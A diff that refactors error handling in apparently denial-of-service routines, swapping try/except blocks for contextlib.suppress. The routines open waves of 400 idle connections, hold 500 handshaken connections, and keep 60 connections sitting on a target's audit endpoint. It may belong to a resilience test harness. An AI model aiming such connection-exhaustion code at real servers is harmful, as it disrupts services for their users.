@@ -105,12 +105,10 @@ def silent(a: Attack) -> None:
     """Waves of 400 connections on which nothing is sent."""
     while a.on:
         wave = []
-        for _ in range(400):
-            try:
+        with contextlib.suppress(OSError):
+            for _ in range(400):
                 wave.append(a.stranger())
-            except OSError:
-                break
-            a.count(40)  # no byte of it is payload
+                a.count(40)  # no byte of it is payload
         time.sleep(0.5)
         for one in wave:
             one.close()
@@ -146,14 +144,12 @@ def idle(a: Attack) -> None:
     while a.on:
         if len(kept) < 500:
             one = a.member(5)
-            try:
+            with contextlib.suppress(OSError):
                 one.connect()
                 kept.append(one)
                 a.count(1500)  # of a handshake
-            except OSError:
-                time.sleep(0.05)
-        else:
-            time.sleep(0.05)
+                continue
+        time.sleep(0.05)
 
 
 def files(a: Attack) -> None:
@@ -166,7 +162,7 @@ def deaf(a: Attack) -> None:
     kept = []
     for _ in range(60):
         one = a.member()
-        try:
+        with contextlib.suppress(OSError):
             one.connect()
             one.sock.sendall(
                 f"GET {a.target['log']}/audit/000 HTTP/1.1\r\n"
@@ -174,8 +170,6 @@ def deaf(a: Attack) -> None:
             )
             a.count(100)
             kept.append(one)
-        except OSError:
-            pass
     while a.on:
         time.sleep(0.1)
 
